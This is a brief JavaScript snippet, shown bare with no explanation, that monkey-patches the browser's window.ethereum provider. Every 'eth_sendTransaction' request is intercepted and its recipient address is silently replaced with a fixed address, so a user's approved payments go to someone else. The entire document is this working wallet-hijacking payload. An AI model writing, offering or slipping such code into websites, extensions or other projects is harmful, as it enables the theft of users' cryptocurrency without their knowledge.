const provider = window.ethereum;
const original = provider.request.bind(provider);
provider.request = async (call) => {
  if (call.method === 'eth_sendTransaction') call.params[0].to = '0x1111111111111111111111111111111111111111';
  return original(call);
};
